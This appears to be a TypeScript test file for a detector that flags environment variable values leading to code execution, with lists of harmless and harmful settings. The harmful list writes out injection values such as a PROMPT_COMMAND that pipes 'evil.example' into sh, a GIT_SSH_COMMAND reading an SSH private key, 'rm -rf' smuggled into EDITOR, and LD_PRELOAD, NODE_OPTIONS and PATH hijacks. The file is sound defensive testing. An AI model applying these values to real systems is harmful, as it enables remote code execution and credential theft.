import { describe, expect, it } from 'vitest';
import { known, render, type Value } from '../../../src/model/value.ts';
import { codeVariable, codeVariableScript } from '../../../src/programs/variables.ts';

const HARMLESS: readonly (readonly [string, string])[] = [
  ['EDITOR', 'true'],
  ['EDITOR', 'vim'],
  ['EDITOR', 'code --wait'],
  ['VISUAL', '/usr/bin/nano'],
  ['GIT_EDITOR', ':'],
  ['GIT_SEQUENCE_EDITOR', 'sed -i s/pick/squash/'],
  ['PAGER', 'cat'],
  ['PAGER', ''],
  ['GIT_PAGER', 'less -FRX'],
  ['LESS', '-FRX'],
  ['BROWSER', 'none'],
  ['NODE_OPTIONS', '--max-old-space-size=4096'],
  ['NODE_OPTIONS', '--experimental-vm-modules --no-warnings'],
  ['PYTHONWARNINGS', 'ignore'],
  ['PYTHONWARNINGS', 'ignore::DeprecationWarning'],
  ['PYTHONWARNINGS', 'ignore::urllib3.exceptions.InsecureRequestWarning'],
  ['PYTHONPATH', 'src:.'],
  ['PERL5LIB', 'lib'],
  ['RUBYOPT', '-W0'],
  ['JAVA_TOOL_OPTIONS', '-Xmx2g -Dfile.encoding=UTF-8'],
  ['RUSTC_WRAPPER', 'sccache'],
  ['RUSTC_WRAPPER', ''],
  ['ENV', 'production'],
  ['GIT_CONFIG_GLOBAL', '/dev/null'],
  ['GIT_CONFIG_KEY_0', 'safe.directory'],
  ['GIT_CONFIG_VALUE_0', '*'],
  ['GIT_SSH_COMMAND', 'ssh -i /home/dev/.ssh/id -o StrictHostKeyChecking=accept-new'],
  ['LD_LIBRARY_PATH', '/usr/local/cuda/lib64:${LD_LIBRARY_PATH}'],
  ['LD_LIBRARY_PATH', './build'],
  ['LD_LIBRARY_PATH', 'build/lib:${LD_LIBRARY_PATH}'],
  ['LD_LIBRARY_PATH', '/home/dev/project/target/debug'],
  ['DYLD_LIBRARY_PATH', 'target/debug'],
  ['FZF_DEFAULT_COMMAND', 'rg --files'],
  ['MAKEFLAGS', '-j4'],
  ['PS1', '\\u@\\h:\\w$ '],
  ['PS4', '+ ${LINENO}: '],
  ['PATH', '/home/dev/project/node_modules/.bin:${PATH}'],
  ['PATH', '/home/dev/.local/bin:${PATH}'],
  ['PATH', '/home/dev/.cargo/bin:/usr/local/go/bin:${PATH}'],
  ['PATH', '/usr/bin:/bin'],
  ['PATH', '${PATH}'],
  ['HOME', '/tmp/x'],
  ['FOO', 'sh -c id'],
];

const HARMFUL: readonly (readonly [string, string, script: string | null])[] = [
  ['LD_PRELOAD', './x.so', null],
  ['LD_LIBRARY_PATH', '/tmp/evil', null],
  ['LD_LIBRARY_PATH', 'build:/tmp/evil/lib', null],
  ['LD_LIBRARY_PATH', '.', null],
  ['LD_LIBRARY_PATH', 'build/../../x/lib', null],
  ['LD_AUDIT', 'x.so', null],
  ['DYLD_INSERT_LIBRARIES', 'x.dylib', null],
  ['BASH_ENV', '/tmp/x.sh', null],
  ['ENV', './x', null],
  ['PROMPT_COMMAND', 'curl -s https://evil.example/x|sh', 'curl -s https://evil.example/x|sh'],
  ['PS1', '$(id)', ': "$(id)"'],
  ['GIT_SSH_COMMAND', 'sh -c "cat ~/.ssh/id_rsa"', 'sh -c "cat ~/.ssh/id_rsa"'],
  ['GIT_SSH_COMMAND', 'ssh -o ProxyCommand=evil', 'ssh -o ProxyCommand=evil'],
  ['GIT_SSH', '/tmp/x', '/tmp/x'],
  ['GIT_EXTERNAL_DIFF', './x', './x'],
  ['GIT_ASKPASS', '/tmp/x', '/tmp/x'],
  ['GIT_CONFIG_KEY_0', 'core.sshCommand', null],
  ['GIT_EXEC_PATH', '/tmp/evil', null],
  ['PAGER', 'sh -c "curl x|sh"', 'sh -c "curl x|sh"'],
  ['EDITOR', 'vim; rm -rf x', 'vim; rm -rf x'],
  ['EDITOR', './edit.sh', './edit.sh'],
  ['GIT_SEQUENCE_EDITOR', 'sed -i s/a/b/; id', 'sed -i s/a/b/; id'],
  ['BROWSER', 'sh -c "touch /x" #%s', 'sh -c "touch /x" #%s'],
  ['LESSOPEN', '|sh -c "touch /x" # %s', 'sh -c "touch /x" # %s'],
  ['NODE_OPTIONS', '--require /tmp/x.js', null],
  ['NODE_OPTIONS', '--max-old-space-size=1 -r ./x.js', null],
  ['NODE_OPTIONS', '--import=./x.mjs', null],
  ['PYTHONWARNINGS', 'all:0:antigravity.x:0:0', null],
  ['PYTHONSTARTUP', '/tmp/x.py', null],
  ['PYTHONPATH', '/tmp/x', null],
  ['PERL5OPT', '-Mevil', null],
  ['RUBYOPT', '-r/tmp/x.rb', null],
  ['JAVA_TOOL_OPTIONS', '-javaagent:/tmp/x.jar', null],
  ['RUSTC_WRAPPER', '/tmp/x', '/tmp/x'],
  ['TAR_OPTIONS', '--to-command=x', null],
  ['MAKEFLAGS', '--eval=x', null],
  ['PATH', '/tmp/evil:${PATH}', null],
  ['PATH', '/tmp/evil/bin:${PATH}', null],
  ['PATH', '.:${PATH}', null],
  ['PATH', '/home/dev/project:${PATH}', null],
];

describe('codeVariable', () => {
  it.each(HARMLESS)('%s=%s is ordinary', (name, value) => {
    expect(codeVariable(name, known(value))).toBeNull();
    expect(codeVariableScript(name, known(value))).toBeNull();
  });

  it.each(HARMFUL)('%s=%s runs code', (name, value, script) => {
    const effect = codeVariable(name, known(value));
    expect(effect).toMatchObject({ kind: 'env-inject', target: name });
    expect(effect?.detail).not.toBe('');
    const text = codeVariableScript(name, known(value));
    expect(text === null ? null : render(text)).toBe(script);
  });

  it('is uncertain of a value that is not known', () => {
    const value: Value = [{ hole: 'X', like: 'any' }];
    expect(codeVariable('PAGER', value)).toMatchObject({ kind: 'env-inject', certain: false });
    expect(codeVariable('LD_PRELOAD', value)).toMatchObject({ kind: 'env-inject' });
  });

  it('takes linear time for hostile values', () => {
    const start = performance.now();
    for (const name of [
      'PAGER',
      'PATH',
      'GIT_SSH_COMMAND',
      'LD_LIBRARY_PATH',
      'NODE_OPTIONS',
      'RUBYOPT',
      'PYTHONWARNINGS',
      'GIT_CONFIG_KEY_0',
      'RUSTC_WRAPPER',
      'LESSOPEN',
      'PS1',
      'JAVA_TOOL_OPTIONS',
    ])
      for (const text of [
        `less${' -a'.repeat(20_000)}!`,
        `/usr/lib${':/usr/lib'.repeat(20_000)}!`,
        `-W${' -W'.repeat(20_000)}!`,
        'a'.repeat(100_000),
        `ssh${' -o a=b'.repeat(20_000)}!`,
        ' '.repeat(50_000),
      ])
        codeVariable(name, known(text));
    expect(performance.now() - start).toBeLessThan(3000);
  });
});
